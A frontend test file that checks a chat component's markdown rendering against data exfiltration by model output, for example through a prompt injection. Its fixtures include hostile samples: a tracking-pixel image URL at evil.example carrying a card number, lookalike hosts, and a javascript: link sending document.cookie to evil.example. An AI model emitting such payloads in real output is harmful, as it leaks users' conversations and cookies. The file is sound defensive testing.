import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeAll, describe, expect, it } from 'vitest';
import { Chat, ChatProvider, createSseTransport, preloadMarkdown } from 'colloquy';
import { createChatHandlers } from 'colloquy/mocks';
import { setupRecordingServer } from '../helpers/recording-server.js';
import { unsafeMarkup } from './dom-safety.js';

// Markdown loads on demand; these tests are about what it renders, so it is there before the first one.
beforeAll(async () => {
  expect(await preloadMarkdown()).toBe(true);
});

// A model (or a prompt injection steering it) can try to send the conversation elsewhere: an image URL carrying it
// loads without a click, a link leaks the page in its Referer or scripts the opener. Through the composed Chat, from
// the kit's MSW mock: no image loads unless its origin is allowlisted, and links are inert until clicked, then isolated.
const { server } = setupRecordingServer();
const STREAM_URL = 'http://localhost/api/chat/stream';
const CDN = 'https://cdn.example.com';

const IMAGES = [
  `![chart](${CDN}/chart.png)`,
  '![pixel](https://evil.example/p.png?chat=my%20card%20is%204111)',
  '![lookalike](https://cdn.example.com.evil.example/p.png)',
  '![plain http](http://cdn.example.com/p.png)',
  '![other port](https://cdn.example.com:8443/p.png)',
  '![protocol relative](//evil.example/p.png)',
  '![relative](/api/conversations?leak=1)',
  '![inline](data:image/png;base64,iVBORw0KGgo=)',
  '![ref][img]\n\n[img]: https://evil.example/r.png',
].join('\n\n');

const LINKS = [
  '[docs](https://example.com/docs?q=1)',
  '<https://example.org/auto>',
  'www.example.net',
  '[mail](mailto:help@example.com)',
  '[log out](/logout)',
  '[query](?delete=1)',
  '[fragment](#top)',
  '[protocol relative](//evil.example/x)',
  '[script](javascript:fetch("https://evil.example/"+document.cookie))',
].join('\n\n');

/** Renders Chat under a provider (optionally with an image allowlist), sends one message, waits for the whole answer. */
async function answerWith(reply: string, imageAllowlist?: readonly string[]): Promise<HTMLElement> {
  server.use(...Object.values(createChatHandlers({ tokensPerSecond: Infinity, reply })));
  const user = userEvent.setup();
  render(
    <ChatProvider transport={createSseTransport({ url: STREAM_URL })} {...(imageAllowlist ? { imageAllowlist } : {})}>
      <Chat />
    </ChatProvider>,
  );
  await user.type(screen.getByRole('textbox', { name: 'Message' }), 'Show me{Enter}');
  const log = screen.getByRole('log', { name: 'Conversation' });
  await waitFor(() => expect(within(log).getAllByRole('article').at(-1)).toHaveAttribute('data-status', 'complete'));
  return within(log).getAllByRole('article').at(-1)!;
}

describe('model output cannot exfiltrate data through images or links', () => {
  it('by default, no image loads: each one is a placeholder naming its alt text', async () => {
    const answer = await answerWith(IMAGES);
    expect(document.querySelectorAll('img')).toHaveLength(0);
    const placeholders = [...answer.querySelectorAll('[data-slot=markdown-image-blocked]')].map((element) => element.textContent);
    expect(placeholders).toHaveLength(9);
    for (const alt of ['chart', 'pixel', 'lookalike', 'protocol relative', 'inline', 'ref']) expect(placeholders.join('|')).toContain(alt);
    expect(unsafeMarkup(document.body)).toEqual([]);
  });

  it('with ChatProvider imageAllowlist, only that exact origin loads, without a referrer', async () => {
    const answer = await answerWith(IMAGES, [CDN]);
    const images = [...document.querySelectorAll('img')];
    expect(images.map((image) => image.getAttribute('src'))).toEqual([`${CDN}/chart.png`]);
    expect(images[0]).toHaveAttribute('referrerpolicy', 'no-referrer');
    expect(images[0]).toHaveAttribute('alt', 'chart');
    expect(answer.querySelectorAll('[data-slot=markdown-image-blocked]')).toHaveLength(8);
    expect(unsafeMarkup(document.body, { imageOrigins: [CDN] })).toEqual([]);
  });

  it('links only to absolute http(s) and mailto URLs, in a new tab, with rel="noopener noreferrer nofollow"', async () => {
    const answer = await answerWith(LINKS);
    const links = within(answer).getAllByRole('link');
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.com/docs?q=1',
      'https://example.org/auto',
      'http://www.example.net/',
      'mailto:help@example.com',
    ]);
    for (const link of links) {
      expect(link).toHaveAttribute('target', '_blank');
      expect(link.getAttribute('rel')?.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
    }
    // Links into the host app, protocol-relative links and script URLs stay text: a model cannot make the user's
    // click log them out or call the app's own endpoints.
    for (const text of ['log out', 'query', 'fragment', 'protocol relative', 'script']) {
      expect(within(answer).getByText(text, { exact: false }).closest('a')).toBeNull();
    }
    expect(unsafeMarkup(document.body)).toEqual([]);
  });
});
